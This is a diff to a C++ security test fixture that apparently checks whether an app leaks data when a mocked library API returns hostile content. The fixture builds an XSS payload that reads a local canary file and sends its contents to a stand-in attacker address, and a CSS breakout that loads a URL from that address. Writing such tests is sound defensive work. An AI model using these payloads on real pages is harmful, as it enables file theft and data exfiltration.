@@ -62,7 +62,7 @@ protected:
     // Every kind of attack at once: scripts, handlers, addresses, embedding,
     // redirects, style sheets and breaking out of the element or attribute.
     std::string payload() const {
-        const std::string other = "http://127.0.0.1:" + std::to_string(attacker.serverPort());
+        const std::string other = otherAddress();
         const std::string steal =
             "var r=new XMLHttpRequest();r.open('GET','" + bridge::fileUrl(canaryPath) +
             "',false);r.send();document.title=r.responseText;new Image().src='" + other +
@@ -99,8 +99,8 @@ protected:
             text[member] = value;
         for (const char* path :
              {"/api/wl/listHomepage", "/api/wl/listHomepageDetail", "/api/wl/menu",
-              "/api/wl/listContentCategory", "/api/wl/listTopRead", "/api/wl/detailKonten",
-              "/api/wl/searching", "/api/wl/searchingKalimat"})
+              "/api/wl/listContentCategory", "/api/wl/listTopRead", "/api/wl/searching",
+              "/api/wl/searchingKalimat"})
             standin.rewrite(path, text);
         const std::string colour = "red;} body{background:url(" + otherAddress() + "/c.png)} x{";
         standin.rewrite("/api/wl/mitra", {{"nama", value},
@@ -110,17 +110,10 @@ protected:
                                           {"warna_button_login", colour},
                                           {"warna_hover_button_login", colour},
                                           {"warna_hover_baca", colour}});
-        standin.rewrite("/api/wl/detailKonten",
-                        Standin::Json{{"cover_file", otherAddress() + "/c.jpg"},
-                                      {"sinopsis", value},
-                                      {"judul", value},
-                                      {"penulis", value},
-                                      {"penerbit", value},
-                                      {"isbn", value},
-                                      {"kategori", value},
-                                      {"tahun_terbit", value},
-                                      {"stok", value},
-                                      {"qty", value}});
+        // The detail's cover is a complete address, which must stay on the service's host.
+        Standin::Json detail = text;
+        detail["cover_file"] = otherAddress() + "/c.jpg";
+        standin.rewrite("/api/wl/detailKonten", detail);
     }
 
     // Lets handlers, frames and refreshes of the page shown have their go.
